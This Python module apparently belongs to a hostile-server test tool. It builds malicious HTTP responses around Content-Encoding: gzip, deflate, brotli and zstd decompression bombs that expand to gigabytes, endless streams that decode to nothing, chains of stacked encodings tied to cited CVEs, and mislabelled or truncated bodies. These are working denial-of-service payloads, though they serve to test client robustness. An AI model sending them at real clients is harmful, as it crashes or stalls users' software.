"""Acts of Content-Encoding: bombs, chains, lies and streams without end."""

from __future__ import annotations

import gzip
import sys
import zlib
from functools import cache

import brotli

from hostile.act import PAYLOAD, Exchange, act, chunked, fixed, head, response

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

BOMB_SIZE = 2**30
BOMB_CHECKSUM = 0x5B64C2B0  # CRC-32 of so many zeros
MEBIBYTE = 2**20
GZIPPED = gzip.compress(PAYLOAD, mtime=0)
DECLARED_ONLY = b"\x89PNG\r\n\x1a\n" + PAYLOAD


@cache
def make_bomb() -> bytes:
    """Return one gzip member that holds BOMB_SIZE zeros, without compressing them all."""
    zeros = bytes(MEBIBYTE)
    times = BOMB_SIZE // len(zeros)
    compressor = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    # After a full flush a block refers to nothing before it, so it can be repeated.
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    start = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    size = BOMB_SIZE % 2**32
    return start + block * times + compressor.flush() + BOMB_CHECKSUM.to_bytes(4, "little") + size.to_bytes(4, "little")


@cache
def _deflate_bomb() -> bytes:
    """The same stream in a zlib wrapper, cut before its checksum: nobody may come that far."""
    return b"\x78\xda" + make_bomb()[10:-8]


@cache
def _brotli_bomb() -> bytes:
    compressor = brotli.Compressor(quality=1, lgwin=24)
    zeros = bytes(MEBIBYTE)
    pieces = [compressor.process(zeros) for _ in range(256)]
    return b"".join((*pieces, compressor.finish()))


@cache
def _zstd_bomb() -> bytes:
    """Each frame of MEBIBYTE zeros takes some 50 bytes."""
    return zstd.compress(bytes(MEBIBYTE)) * 1_024


@cache
def _zstd_wide_window() -> bytes:
    """Asks the decoder for a window of 128 MiB."""
    options = {zstd.CompressionParameter.window_log: 27, zstd.CompressionParameter.enable_long_distance_matching: 1}
    compressor = zstd.ZstdCompressor(options=options)
    return compressor.compress(PAYLOAD) + compressor.flush()


def _encoded(body: bytes, encoding: str) -> bytes:
    return response(body, f"Content-Encoding: {encoding}")


@fixed()
def gzip_bomb() -> bytes:
    """1 GiB of zeros from 1 MiB."""
    return _encoded(make_bomb(), "gzip")


@fixed()
def gzip_bomb_in_gzip() -> bytes:
    """1 GiB of zeros in gzip in gzip, some kilobytes."""
    return _encoded(gzip.compress(make_bomb(), mtime=0), "gzip, gzip")


@fixed()
def gzip_bomb_as_page() -> bytes:
    """A gzip bomb declared as a page."""
    return response(make_bomb(), "Content-Type: text/html", "Content-Encoding: gzip")


@fixed()
def deflate_bomb() -> bytes:
    """1 GiB of zeros in deflate."""
    return _encoded(_deflate_bomb(), "deflate")


@fixed()
def brotli_bomb() -> bytes:
    """256 MiB of zeros in 48 kB of brotli (CVE-2025-6176)."""
    return _encoded(_brotli_bomb(), "br")


@fixed()
def zstd_bomb() -> bytes:
    """1 GiB of zeros in 1,024 zstd frames."""
    return _encoded(_zstd_bomb(), "zstd")


@fixed()
def zstd_wide_window() -> bytes:
    """A zstd frame that asks for a window of 128 MiB (RFC 9659 allows 8)."""
    return _encoded(_zstd_wide_window(), "zstd")


@fixed()
def three_encodings() -> bytes:
    """gzip in gzip in gzip (CVE-2025-66418)."""
    return _encoded(gzip.compress(gzip.compress(gzip.compress(PAYLOAD))), "gzip, gzip, gzip")


@fixed()
def hundred_encodings() -> bytes:
    """A hundred encodings on one body, in as many headers (CVE-2025-66418)."""
    return response(PAYLOAD, *["Content-Encoding: gzip"] * 100)


@fixed()
def unknown_encoding() -> bytes:
    """An encoding that does not exist."""
    return _encoded(PAYLOAD, "rot13")


@fixed()
def encoding_lies() -> bytes:
    """Declared as gzip, and neither that nor anything that its first bytes show."""
    return _encoded(PAYLOAD, "gzip")


@fixed()
def encoding_declared_only() -> bytes:
    """A PNG file declared as gzip, and sent as it is."""
    return _encoded(DECLARED_ONLY, "gzip")


@fixed()
def encoding_half_known() -> bytes:
    """Encoded in gzip, and declared as that and as what no browser knows: they disagree about what the file is."""
    return response(GZIPPED, "Content-Encoding: gzip, utf-8")


@fixed()
def encoding_hides() -> bytes:
    """Encoded in gzip, and not declared: the file is the gzip stream."""
    return response(GZIPPED)


@fixed()
def cut_gzip() -> bytes:
    """Half a gzip body, of which Content-Length is right."""
    whole = gzip.compress(PAYLOAD, mtime=0)
    return _encoded(whole[: len(whole) // 2], "gzip")


@fixed()
def cut_brotli() -> bytes:
    """Half a brotli body, of which Content-Length is right."""
    whole = brotli.compress(PAYLOAD)
    return _encoded(whole[: len(whole) // 2], "br")


@fixed()
def cut_zstd() -> bytes:
    """Half a zstd body, of which Content-Length is right."""
    whole = zstd.compress(PAYLOAD)
    return _encoded(whole[: len(whole) // 2], "zstd")


@fixed()
def gzip_wrong_checksum() -> bytes:
    """A gzip body whose checksum is wrong."""
    whole = bytearray(gzip.compress(PAYLOAD, mtime=0))
    whole[-5] ^= 0xFF
    return _encoded(bytes(whole), "gzip")


@fixed()
def gzip_padding() -> bytes:
    """Zeros after the end of a gzip body, which browsers ignore."""
    return _encoded(gzip.compress(PAYLOAD, mtime=0) + bytes(1_000), "gzip")


@act()
async def gzip_padding_endless(exchange: Exchange) -> None:
    """Zeros without end after the end of a gzip body."""
    await exchange.send(head("Content-Encoding: gzip", "Transfer-Encoding: chunked"))
    await exchange.send(chunked(gzip.compress(PAYLOAD, mtime=0), end=b""))
    while True:
        await exchange.send(chunked(bytes(65_536), end=b""))


@act()
async def gzip_members_endless(exchange: Exchange) -> None:
    """Empty gzip members without end: bytes that decode to nothing."""
    members = gzip.compress(b"", mtime=0) * 1_000
    await exchange.send(head("Content-Encoding: gzip", "Transfer-Encoding: chunked"))
    while True:
        await exchange.send(chunked(members, end=b""))


@act()
async def gzip_name_endless(exchange: Exchange) -> None:
    """A gzip header whose file name has no end."""
    await exchange.send(head("Content-Encoding: gzip", "Transfer-Encoding: chunked"))
    await exchange.send(chunked(b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\xff", end=b""))
    while True:
        await exchange.send(chunked(b"a" * 65_536, end=b""))


@act()
async def zstd_skippable_endless(exchange: Exchange) -> None:
    """Skippable zstd frames without end: bytes that decode to nothing."""
    frame = b"\x50\x2a\x4d\x18" + (65_528).to_bytes(4, "little") + bytes(65_528)
    await exchange.send(head("Content-Encoding: zstd", "Transfer-Encoding: chunked"))
    while True:
        await exchange.send(chunked(frame, end=b""))


@act()
async def brotli_metadata_endless(exchange: Exchange) -> None:
    """Brotli flushes without end: bytes that decode to nothing."""
    compressor = brotli.Compressor()
    await exchange.send(head("Content-Encoding: br", "Transfer-Encoding: chunked"))
    await exchange.send(chunked(compressor.process(b"a") + compressor.flush(), end=b""))
    while True:
        # A metadata block that holds nothing (RFC 7932, 9.2), aligned to bytes by two.
        await exchange.send(chunked(b"\x06" * 65_536, end=b""))


@fixed()
def deflate_raw() -> bytes:
    """deflate without its zlib wrapper, as many servers send it."""
    compressor = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    return _encoded(compressor.compress(PAYLOAD) + compressor.flush(), "deflate")


@fixed()
def deflate_wrapped() -> bytes:
    """deflate with its zlib wrapper, as the standard says."""
    return _encoded(zlib.compress(PAYLOAD), "deflate")
